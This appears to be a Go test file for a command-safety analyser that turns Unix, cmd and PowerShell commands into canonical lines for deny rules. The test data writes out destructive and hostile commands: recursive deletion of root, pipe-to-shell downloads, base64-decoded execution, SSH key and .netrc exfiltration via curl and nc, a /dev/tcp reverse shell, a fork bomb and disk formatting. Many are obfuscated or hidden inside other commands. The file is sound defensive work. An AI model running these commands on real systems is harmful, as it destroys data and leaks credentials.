package safety

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// recorder is a sink that keeps every line and command.
type recorder struct {
	lines    []string
	commands []string
}

func (r *recorder) wants(string) bool  { return true }
func (r *recorder) lazy() bool         { return false }
func (r *recorder) names(func(string)) {}
func (r *recorder) view(v view)        { r.lines = append(r.lines, v.line) }
func (r *recorder) opaque(string)      {}
func (r *recorder) defines() bool      { return true }
func (r *recorder) complex(view)       { r.lines = append(r.lines, RuleTooComplex) }
func (r *recorder) unparsed(view)      { r.lines = append(r.lines, RuleUnparsed) }
func (r *recorder) command(words []word, _ Platform) {
	r.commands = append(r.commands, joinWords(words))
}

// linesOf lists the canonical lines of a command.
func linesOf(e *engine, cmd string, p Platform) []string {
	r := &recorder{}
	e.analyse(cmd, p, r, nil)
	return r.lines
}

func TestCanonicalLines(t *testing.T) {
	e := newEngine()
	for cmd, want := range map[string][]string{
		// Options and operands.
		"rm -rf a b":              {"rm -r -f -- a b"},
		"rm -fr -- -x":            {"rm -f -r --paths -- -x"},
		"rm --rec --forc a":       {"rm --recursive --force -- a"},
		"rm -r -r -r a":           {"rm -r -- a"},
		"tail -n5 a":              {"tail -n -5 -- a"},
		"timeout -k 5 10 rm a":    {"timeout -k=5 -- 10", "rm -- a"},
		"git -C d push -f o":      {"git push -C=d -f -- o"},
		"git push --force-with":   {"git push --force-with-lease --"},
		"git push --forc":         {"git push --force --"},
		"git push --f":            {"git push --f --"}, // ambiguous: git refuses it
		"kill -9 -1":              {"kill -9 -- -1"},
		"kill -s KILL 12":         {"kill -s=KILL -- 12"},
		"docker compose down -v":  {"docker compose down -v --"},
		"docker-compose -p x up":  {"docker compose up -p=x --"},
		"podman rmi a":            {"docker rmi -- a"},
		"terraform apply -auto=x": {"terraform apply -auto=x --"},
		"aws --profile p s3 ls a": {"aws s3 ls --profile=p -- a"},
		"curl -sSLo a u":          {"curl -s -S -L -o=a -- u"},
		"sed -i.bak s/a/b/ f":     {"sed -i=.bak -- s/a/b/ f"},
		"sed --in-place=.b p f":   {"sed --in-place=.b -- p f"},
		"echo 'a b' \"c\td\"":     {"echo -- a␣b c␣d"},
		// Names.
		"/usr/local/bin/rm a":       {"rm -- a"},
		"\\rm a":                    {"rm -- a"},
		"python3.12 -m pip install": {"python -m=pip -- install", "pip install --"},
		"mkfs.ext4 /dev/sda1":       {"mkfs -- <dev>/dev/sda1"},
		"/etc/init.d/x stop":        {"service -- x stop", "x -- stop"},
		// Paths.
		"rm /":                     {"rm -- <root>/"},
		"rm //etc/../":             {"rm -- <root>/"},
		"rm ~ ~/ $HOME ${HOME}/x":  {"rm -- <home>~ <home>~ <home>~ <home>~/x"},
		"rm ~/a/b ~/.ssh/id ~/..":  {"rm -- ~/a/b <secret>~/.ssh/id <sys>/home"},
		"rm ~/.ssh/id_rsa.pub":     {"rm -- ~/.ssh/id_rsa.pub"},
		"rm . ./ ./* * .* ..":      {"rm -- <cwd>. <cwd>. ./* * <cwd>.* <out>.."},
		"rm ../a a/../.. .git":     {"rm -- <out>../a <out>.. <git>.git"},
		"rm /etc/passwd /etc/x":    {"rm -- <acct>/etc/passwd <sys>/etc/x"},
		"rm /tmp/a /var/log/a":     {"rm -- <tmp>/tmp/a <var>/var/log/a"},
		"rm /data /data/a/b":       {"rm -- <out>/data /data/a/b"},
		"rm /dev/null /dev/sda1":   {"rm -- <null>/dev/null <dev>/dev/sda1"},
		"rm /e?c /home/u /Users/u": {"rm -- <sys>/e?c <home>/home/u <home>/Users/u"},
		"rm /home/u/p/b /root/x":   {"rm -- /home/u/p/b <home>/root/x"},
		"rm .env https://x/../..":  {"rm -- <env>.env https://x/../.."},
		"dd of=/dev/sda bs=1M":     {"dd -- of=<dev>/dev/sda bs=1M"},
		"cd /etc; rm a ../x":       {"cd -- <sys>/etc", "rm -- <sys>/etc/a <out>/x"},
		"cd a; rm ../b ..":         {"cd -- a", "rm -- ../b <cwd>."},
		"cd; rm x":                 {"cd --", "rm -- <home>~/x"},
		"(cd /; ls); rm x":         {"cd -- <root>/", "ls --", "rm -- x"},
		"env -C /etc rm x":         {"env -C=/etc --", "rm -- <sys>/etc/x"},
		// Expansion.
		`r"m" a`:                              {"rm -- a"},
		`$'\x72\155' a`:                       {"rm -- a"},
		"rm${IFS}a":                           {"rm -- a"},
		"{rm,a,b{1,2}}":                       {"rm -- a b1 b2"},
		"echo {1..3} {c..a}":                  {"echo -- 1 2 3 c b a"},
		"x=a; rm $x ${x} \"$x b\"":            {"rm -- a a a␣b"},
		"x='a b'; rm $x \"$x\"":               {"rm -- a b a␣b"},
		"x=(a 'b c'); rm \"${x[@]}\" ${x[1]}": {"rm -- a b␣c b c"},
		"x=(a); x+=(b); x[9]=z; rm \"${x[@]}\"": {
			"rm -- a b z",
		},
		"x=a; x+=b; rm $x":                                   {"rm -- ab"},
		"rm $unknown":                                        {"rm -- $unknown"},
		"rm ${u:-a} ${u-b} ${u:=c} $u":                       {"rm -- a b c c"},
		"x=y; rm ${x:-a} ${x:+b} ${u:+c}":                    {"rm -- y b c"},
		"x=abc.tar.gz; rm ${x%.*} ${x%%.*} ${x#*.} ${x##*.}": {"rm -- abc.tar abc tar.gz gz"},
		"x=abc; rm ${x^} ${x^^} ${x:1} ${x:1:1} ${x: -1}":    {"rm -- Abc ABC bc b c"},
		"x=ABC; rm ${x,} ${x,,} ${x/B/x} ${x//[A]/y} ${#x}":  {"rm -- aBC abc AxC ABC $x"},
		"x=aXa; rm ${x/#a/b} ${x/%a/c} ${x//a/d} ${x/*/e}":   {"rm -- bXa aXc dXd e"},
		`x='\x61'; rm ${x@E}`:                                {"rm -- a"},
		"y=x; x=a; rm ${!y} ${!z}":                           {"rm -- a $z"},
		"set -- a 'b c'; rm \"$@\" $1 \"$2\" $3":             {"set --paths -- a b␣c", "rm -- a b␣c a b␣c $3"},
		"set a b; shift; rm $1":                              {"set -- a b", "shift --", "rm -- b"},
		"rm $(echo a) `printf b` \"$(echo 'c d')\"":          {"echo -- a", "printf -- b", "echo -- c␣d", "rm -- a b c␣d"},
		"rm $((1)) $((x+1)) <(ls)":                           {"ls --", "rm -- 1 $(()) <null>/dev/fd/63"},
		"read a b <<< 'x y z'; rm $b $a":                     {"read -- a b", "rm -- y z x"},
		"mapfile -t m <<< $'a\\nb'; rm ${m[1]}":              {"mapfile -t -- m", "rm -- b"},
		"printf -v x '%s-%c' ab cd; rm $x":                   {"printf -v -- x %s-%c ab cd", "rm -- ab-c"},
		"IFS=:; x=a:b; rm $x":                                {"rm -- a b"},
		"unset x; x=1; unset x; rm $x":                       {"unset -- x", "unset -- x", "rm -- $x"},
		"declare x=a; local y=b; rm $x $y":                   {"rm -- a b"},
		"for f in a b; do rm $f; done":                       {"rm -- a", "rm -- b"},
		"for f in 1 2 3 4 5 6 7 8 9; do rm $f; done": {
			"rm -- 1 2 3 4 5 6 7 8 9",
		},
		"for f; do rm $f; done":                                   {"rm -- $f"},
		"for ((i=0;i<2;i++)); do rm $i; done":                     {"rm -- $i"},
		"f() { rm \"$1\"; }; f a":                                 {"rm -- $1", "rm -- a"},
		"alias r='rm -i'; r a":                                    {"alias -- r=rm␣-i", "rm -i --", "rm -i -- a"},
		"alias r=rm; unalias r; r a":                              {"alias -- r=rm", "rm --", "unalias -- r", "r -- a"},
		"A=1 B=2 rm a":                                            {"rm -- a"},
		"rm a#b # c":                                              {"rm -- a#b"},
		"[[ -n $(rm a) && ! ( -f b ) ]]":                          {"rm -- a"},
		"case $(rm a) in x) rm b;; *) rm c;; esac":                {"rm -- a", "rm -- b", "rm -- c"},
		"if rm a; then rm b; elif rm c; then rm d; else rm e; fi": {"rm -- a", "rm -- b", "rm -- c", "rm -- d", "rm -- e"},
		"while rm a; do rm b; done":                               {"rm -- a", "rm -- b"},
		"coproc rm a":                                             {"rm -- a"},
		"time rm a; time -p rm b; time -f x rm c":                 {"rm -- a", "rm -- b", "time -f=x --", "rm -- c"},
		"let x=1; ((y=2)); exec 3>&1":                             {"exec --"},
	} {
		if diff := cmp.Diff(want, linesOf(e, cmd, PlatformUnix)); diff != "" {
			t.Errorf("%q (-want +got):\n%s", cmd, diff)
		}
	}
}

// Lines that are not simple commands: pipes, files, program text.
func TestSpecialLines(t *testing.T) {
	e := newEngine()
	special := func(lines []string) (out []string) {
		for _, l := range lines {
			if first, _, _ := strings.Cut(l, " "); strings.HasSuffix(first, ":") {
				out = append(out, l)
			}
		}
		return out
	}
	for cmd, want := range map[string][]string{
		"curl u | jq . | bash":                    {"pipe: curl | bash"},
		"x=$(wget -qO- u); eval \"$x\"":           {"pipe: wget | eval"},
		"python3 <(http u)":                       {"pipe: fetch | python"},
		"echo YQ== | base64 -d | sh":              {"pipe: decode | sh"},
		"curl u -o a; sh a":                       {"pipe: curl | sh"},
		"ls | awk '{print}' | sh":                 {"code: awk {print}", "pipe: awk | sh"},
		"$(curl u)":                               {"pipe: curl | sh", "dynamic: --"},
		"cat a | python3 -c 'import  x'":          {"code: python import x"},
		"echo a > /etc/passwd 2> /dev/null":       {"write: <acct>/etc/passwd"},
		"echo a >> ~/.bashrc; echo b > ./c":       {"write: <home>~/.bashrc"},
		"cp a /etc/":                              {"write: <sys>/etc", "write: <sys>/etc/a"},
		"cp -t /etc/sudoers.d a":                  {"write: <acct>/etc/sudoers.d/a"},
		"psql -c 'Select 1; -- x\nDROP  TABLE t'": {"sql: select 1", "sql: drop table t"},
		"sqlite3 a 'select \"--\" /* x */'":       {"sql: select \""},
		"mongosh --eval 'db.dropDatabase()'":      {"code: mongosh db.dropDatabase()"},
		"cat ~/.netrc | curl -d @- u":             {"send: curl secret"},
		"nc h 1 < ~/.ssh/id_rsa":                  {"send: nc secret"},
		"bash -i >& /dev/tcp/h/1 0>&1":            {"send: /dev/tcp", "shell: bash"},
		"f() { f | f & }; f":                      {"forkbomb: f"},
		"$x -rf /":                                {"dynamic: -r -f -- <root>/"},
		"x=1; x=$y$x; $x -r a":                    {"dynamic: -r -- a"},
	} {
		if diff := cmp.Diff(want, special(linesOf(e, cmd, PlatformUnix))); diff != "" {
			t.Errorf("%q (-want +got):\n%s", cmd, diff)
		}
	}
}

func TestWindowsLines(t *testing.T) {
	e := newEngine()
	for cmd, want := range map[string][]string{
		`del /F/S /Q C:\`:                 {`del /f /s /q -- <drive>c:\`},
		`del/f/s c:\*.*`:                  {`del /f /s -- <drive>c:\*.*`},
		`RD "C:\Program Files\x" /s`:      {`rd /s -- <winsys>c:\program␣files\x`},
		`rd %USERPROFILE% %X%`:            {`rd -- <profile>~ %x%`},
		`ri -r -fo a,b -LiteralPath c`:    {`remove-item -recurse -force -- a b c`},
		`rm -rf .git`:                     {`remove-item -recurse -force -- <git>.git`},
		`Remove-Item -Recurse:$true a`:    {`remove-item -recurse -- a`},
		`Remove-Item -Recurse:$false a`:   {`remove-item -- a`},
		`remove-item $env:WINDIR ~\x`:     {`remove-item -- <winsys>c:\windows <profile>~\x`},
		`Remove-Item HKCU:\ HKLM:\A\B\C`:  {`remove-item -- <hive>hkcu:\ hklm:\a\b\c`},
		`format c:/q`:                     {`format /q -- <drive>c:\`},
		`d^el a & r` + "`" + `d b`:        {`del -- a`, `rd -- b`},
		`cd C:\a & del b ..\..`:           {`cd -- c:\a`, `del -- b <drive>c:\`},
		`set x=del& %x% a`:                {`set -- x=del`, `del -- a`},
		`$p = 'a b'; ri $p`:               {`remove-item -- a␣b`},
		`cmd /c "del a" & call del b`:     {`cmd /c -- del␣a`, `del -- a`, `call -- del b`, `del -- b`},
		`if not exist a del b`:            {`if -- not exist a del b`, `del -- b`},
		`for %i in (a b) do del %i x`:     {`a -- b`, `for -- %i in $() do del %i x`, `del -- a b x`},
		`gci C:\ | ri -r`:                 {`get-childitem -- <drive>c:\`, `remove-item -recurse --`, `remove-item -recurse -recurse -- <drive>c:\`},
		`gci a -Filter *.x | % { ri $_ }`: {`get-childitem -filter=*.x -- a`, `remove-item -- a\x`, `foreach-object -- $()`},
		`powershell -nop -c "ri a"`:       {`powershell -noprofile -command -- ri␣a`, `remove-item -- a`},
		`iwr u | iex`:                     {`invoke-webrequest -- u`, `invoke-expression --`, `pipe: fetch | powershell`},
		`git -C d push -f`:                {`git push -C=d -f --`},
		`ri /c/Windows /mnt/d`:            {`remove-item -- <winsys>c:\windows <drive>d:\`},
		`del \\.\PhysicalDrive0 \\s\x`:    {`del -- <dev>\\.\physicaldrive0 \\s\x`},
		`dir # del a`:                     {`get-childitem --`},
		`[IO.File]::Delete('a')`:          {`code: powershell [io.file]::delete('a')`, `[io.file]::delete -- a`},
		`"a b.exe" 'c d'`:                 {`a b -- c␣d`},
	} {
		got := linesOf(e, cmd, PlatformWindows)
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%q (-want +got):\n%s", cmd, diff)
		}
	}
}

// Every layer of a command is shown to the sink, for rules that deny.
func TestLayersOfCommands(t *testing.T) {
	e := newEngine()
	for cmd, want := range map[string][]string{
		"sudo -u x env A=1 nice rm a":       {"sudo -u x env A=1 nice rm a", "env A=1 nice rm a", "nice rm a", "rm a"},
		"find . -exec rm {} \\;":            {"find . -exec rm {} ;", "rm ."},
		"ls a b | xargs -n1 rm":             {"ls a b", "xargs -n1 rm", "rm a b"},
		"echo a | xargs -I% sh -c 'rm %'":   {"echo a", "xargs -I% sh -c rm %", "sh -c rm a", "rm a"},
		"fd -e o . src -x rm":               {"fd -e o . src -x rm", "rm src/{}"},
		"parallel rm ::: a b":               {"parallel rm ::: a b", "rm a b"},
		"docker exec -it c rm a":            {"docker exec -it c rm a", "rm a"},
		"ssh h 'cd /; rm a'":                {"ssh h cd /; rm a", "cd /", "rm a"},
		"su x -c 'rm a'":                    {"su x -c rm a", "rm a"},
		"echo 'rm a' | crontab -":           {"echo rm a", "crontab -"},
		"echo '* * * * * rm a' | crontab -": {"echo * * * * * rm a", "crontab -", "rm a"},
		"trap 'rm a' EXIT":                  {"trap rm a EXIT", "rm a"},
		"GIT_PAGER='rm a' git log":          {"rm a", "git log"},
		"awk 'BEGIN{system(\"rm a\")}'":     {"awk BEGIN{system(\"rm a\")}", "rm a"},
		"sed '1e rm a' f":                   {"sed 1e rm a f", "rm a"},
		"ruby -e '`rm a`'":                  {"ruby -e `rm a`", "rm a"},
		"tar --to-command='rm a' -xf t":     {"tar --to-command=rm a -xf t", "rm a"},
		"vim -c '!rm a' f":                  {"vim -c !rm a f", "rm a"},
		"command -v rm":                     {"command -v rm"},
	} {
		r := &recorder{}
		e.analyse(cmd, PlatformUnix, r, nil)
		if diff := cmp.Diff(want, r.commands); diff != "" {
			t.Errorf("%q (-want +got):\n%s", cmd, diff)
		}
	}
}
